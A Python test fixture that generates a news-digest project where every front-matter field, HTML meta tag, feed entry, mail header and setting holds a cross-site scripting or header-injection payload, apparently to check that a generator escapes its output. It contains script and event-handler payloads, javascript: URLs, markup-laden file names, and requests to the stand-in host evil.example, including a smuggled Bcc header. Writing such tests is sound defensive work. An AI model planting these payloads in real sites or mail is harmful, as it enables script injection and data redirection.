"""A project in which every field of every format, and every setting with words, is an attack of our own.

An attack that runs calls `hit` with the name of its field; one that asks another host asks evil.example for it.
"""

import json
from collections.abc import Iterator, Mapping
from html import escape
from pathlib import Path

from conftest import RAIN
from samples import picture_file

HOST = "evil.example"


def attack(field: str) -> str:
    """Return what breaks out of a text, an attribute in either quotes, a script, a style, JSON or XML."""
    call = f"hit('{field}')"
    return (
        f'{field} <script>{call}</script>"><img src=https://{HOST}/{field} onerror={call}>'
        f"' autofocus tabindex=1 onfocus={call} onmouseover={call} x='</title></style></textarea></script>"
        f'<svg onload={call}>]]><script xmlns="http://www.w3.org/1999/xhtml">{call}</script>'
        f'{{{{ 7 * 191 }}}}${{{call}}}\\"-{call}-\\" --><!-- \u2028{call}//'
    )


def address(field: str) -> str:
    """Return what runs where somebody takes it for an address."""
    return f"javascript:hit('{field}')//https://{HOST}/{field}"


def body(field: str) -> str:
    """Return HTML that attacks by itself, and by what the text of its sentences becomes."""
    call = f"hit('{field}')"
    first = RAIN.partition("\n")[0]
    said = f"The council of {field} said on Monday that {escape(attack(field))} would close every bridge."
    return (
        f"<h2>{escape(attack(field))}</h2><p>{first}</p><p>{said}</p><p>{RAIN}</p>"
        f'<script>{call}</script><img src=x onerror={call}><a href="javascript:{call}">a</a>'
        f'<svg><a xlink:href="javascript:{call}"><text>b</text></a><animate onbegin={call} attributeName=x></svg>'
        f"<iframe src=https://{HOST}/{field}>c</iframe><form action=https://{HOST}/{field}><button>d</button></form>"
        f'<meta http-equiv=refresh content="0;url=https://{HOST}/{field}"><base href=https://{HOST}/>'
        f"<link rel=stylesheet href=https://{HOST}/{field}.css><style>@import url(https://{HOST}/{field}.css)</style>"
        f'<p style="background:url(https://{HOST}/{field})" onclick={call} title="{escape(attack(field))}">e</p>'
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={call}&gt;">'
        f"<details open ontoggle={call}>f</details><video autoplay onloadstart={call}><source src=x></video>"
    )


def project_files() -> dict[str, bytes]:
    """Return the files of the project by their paths; the first word of an attack is its field."""
    texts = dict(_markdown()) | dict(_pages()) | dict(_feeds()) | dict(_mails())
    texts["content/paste.txt"] = (
        f"{attack('paste-title')}\n\nBy Ana {attack('paste-author')}\n\nPublished 6 March 2025\n\n"
        f"{attack('paste-caption')} Photo: Ana Lee/Reuters\n\n{RAIN}\n\n{attack('paste-body')}\n\n{body('paste-html')}\n"
    )
    files = {path: text.encode() for path, text in texts.items()}
    files["content/rain.png"] = picture_file((600, 400))
    files["digest.toml"] = _settings().encode()
    return files


FIELDS = (
    "title kicker standfirst source summary caption credit alt language slug".split(),
    "authors topics tags".split(),
)
"""Of front matter: those of one text, and lists."""


def _markdown() -> Iterator[tuple[str, str]]:
    for field in [*FIELDS[0], *FIELDS[1], "aliases", "url", "image", "name", "body"]:
        name = f"md-{field}"
        facts: dict[str, object] = {
            "title": f"Rain over {name}",
            "date": "2024-12-02",
            "image": "rain.png",
            "image_caption": "c",
            "tags": ["Rain"],
        }
        key = {"caption": "image_caption", "credit": "image_credit", "alt": "image_alt"}.get(field, field)
        if field in FIELDS[0]:
            facts[key] = attack(name)
        elif field in FIELDS[1]:
            facts[key] = [attack(name), f"{name} b"]
        elif field == "aliases":
            facts[key] = [attack(name), address(name), f"old/{name}"]
        elif field in {"url", "image"}:
            facts[key] = address(name)
        file = f"content/{name}.md"
        if field == "name":
            file = "content/\"><img src=x onerror=hit('md-name')>.md"
        stated = "".join(f"{key}: {json.dumps(value)}\n" for key, value in facts.items())
        text = body(name) if field == "body" else f"The council of {name} met.\n{RAIN}"
        yield file, f"---\n{stated}---\n\n{text}"


def _pages() -> Iterator[tuple[str, str]]:
    for kind in ("page", "data", "mhtml"):
        said = {
            key: escape(attack(f"{kind}-{key}"))
            for key in ("title", "h1", "author", "og", "description", "site", "alt", "caption", "keywords")
        }
        data = {
            "@context": "https://schema.org",
            "@type": "NewsArticle",
            "headline": attack(f"{kind}-headline"),
            "author": [{"@type": "Person", "name": attack(f"{kind}-person")}],
            "publisher": {"@type": "Organization", "name": attack(f"{kind}-publisher")},
            "description": attack(f"{kind}-said"),
            "keywords": [attack(f"{kind}-keyword")],
            "image": {"url": address(f"{kind}-image"), "caption": attack(f"{kind}-imagecaption")},
            "url": address(f"{kind}-url"),
            "datePublished": "2025-03-06T10:00:00Z",
        }
        written = json.dumps(data).replace("</", "<\\/")
        stated = f'<script type="application/ld+json">{written}</script>'
        html = (
            f"<!DOCTYPE html><html><head><meta charset=utf-8><title>{said['title']}</title>"
            f'<meta name="author" content="{said["author"]}"><meta property="og:title" content="{said["og"]}">'
            f'<meta property="og:description" content="{said["description"]}">'
            f'<meta property="og:site_name" content="{said["site"]}"><meta name=keywords content="{said["keywords"]}">'
            f'<meta property="og:image" content="{escape(address(f"{kind}-ogimage"))}">'
            f'<link rel="canonical" href="{escape(address(f"{kind}-canonical"))}">{stated if kind == "data" else ""}'
            f"</head><body><article><h1>{said['h1']}</h1><p>The council of {kind} met on Monday.</p>"
            f'<figure><img src="rain.png" alt="{said["alt"]}"><figcaption>{said["caption"]}</figcaption></figure>'
            f"{''.join(f'<p>{line}</p>' for line in RAIN.splitlines())}{body(f'{kind}-body')}</article></body></html>"
        )
        if kind == "mhtml":
            head = (
                f"From: <x>\r\nSnapshot-Content-Location: {address('mhtml-location')}\r\n"
                'MIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n'
                f"--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: {address('mhtml-part')}\r\n\r\n"
            )
            yield f"content/{kind}.mhtml", f"{head}{html}\r\n--b--\r\n"
        else:
            yield f"content/{kind}.html", html


def _feeds() -> Iterator[tuple[str, str]]:
    def text(field: str) -> str:
        return escape(attack(field))

    yield (
        "content/atom.xml",
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        f"<title type='html'>{text('atom-feed')}</title><id>tag:a</id><entry><id>{text('atom-id')}</id>"
        f"<title type='html'>{text('atom-title')}</title><updated>2025-03-06T10:00:00Z</updated>"
        f"<author><name>{text('atom-author')}</name><uri>{text('atom-uri')}</uri></author>"
        f"<category term='{text('atom-term')}' label='{text('atom-label')}'/>"
        f"<link href='{escape(address('atom-link'))}'/>"
        f"<link rel='enclosure' type='image/png' href='{escape(address('atom-enclosure'))}'/>"
        f"<summary type='html'>{escape(body('atom-summary'))}</summary>"
        f"<content type='html' xml:base='{escape(address('atom-base'))}'>{escape(body('atom-content'))}</content>"
        "</entry></feed>",
    )
    yield (
        "content/rss.rss",
        '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">'
        f"<channel><title>{text('rss-feed')}</title><link>{escape(address('rss-home'))}</link>"
        f"<item><title>{text('rss-title')}</title><guid>{text('rss-guid')}</guid>"
        f"<link>{escape(address('rss-link'))}</link><dc:creator>{text('rss-creator')}</dc:creator>"
        f"<category>{text('rss-category')}</category><pubDate>Thu, 06 Mar 2025 10:00:00 GMT</pubDate>"
        f"<media:content url='{escape(address('rss-media'))}' medium='image'><media:title>{text('rss-mediatitle')}"
        f"</media:title></media:content><description>{escape(body('rss-description'))}</description></item></channel></rss>",
    )
    item = {
        "id": attack("json-id"),
        "url": address("json-url"),
        "title": attack("json-title"),
        "summary": attack("json-summary"),
        "content_html": body("json-content"),
        "image": address("json-image"),
        "authors": [{"name": attack("json-author"), "url": address("json-authorurl")}],
        "tags": [attack("json-tag")],
        "language": attack("json-language"),
        "date_published": "2025-03-06T10:00:00Z",
        "attachments": [{"url": address("json-attachment"), "mime_type": "image/png"}],
    }
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": attack("json-feed"),
        "home_page_url": address("json-home"),
        "items": [item],
    }
    yield "content/feed.json", json.dumps(feed)


def _mails() -> Iterator[tuple[str, str]]:
    def header(field: str) -> str:
        broken = f"x\r\nBcc: victim@{HOST}\r\n\r\n{attack(field)}"
        return "".join(
            f"=?utf-8?q?{''.join(f'={byte:02X}' for byte in broken[start : start + 12].encode())}?=\n "
            for start in range(0, len(broken), 12)
        ).rstrip()

    yield (
        "content/mail.eml",
        f"From: {header('mail-from')} <a@b.example>\nSubject: {header('mail-subject')}\nList-Id: {header('mail-list')} <l>\n"
        f"Archived-At: <{address('mail-archived')}>\nDate: Thu, 06 Mar 2025 10:00:00 +0000\nContent-Language: {HOST}\n"
        f"MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{body('mail-body')}\n",
    )


def _settings() -> str:
    quoted = {
        name: json.dumps(attack(f"site-{name}")) for name in ("title", "description", "author", "topic")
    }
    return (
        f"[site]\ntitle = {quoted['title']}\ndescription = {quoted['description']}\nauthor = {quoted['author']}\n"
        'base_url = "http://digest.test/"\n[edition]\nperiod = "month"\n[images]\ncards = false\n'
        f'[topics]\n{quoted["topic"]} = ["council", "bridges"]\n'
    )


def write_project(folder: Path, files: Mapping[str, bytes]) -> Path:
    """Write the project into a folder, and return that."""
    for name, data in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return folder
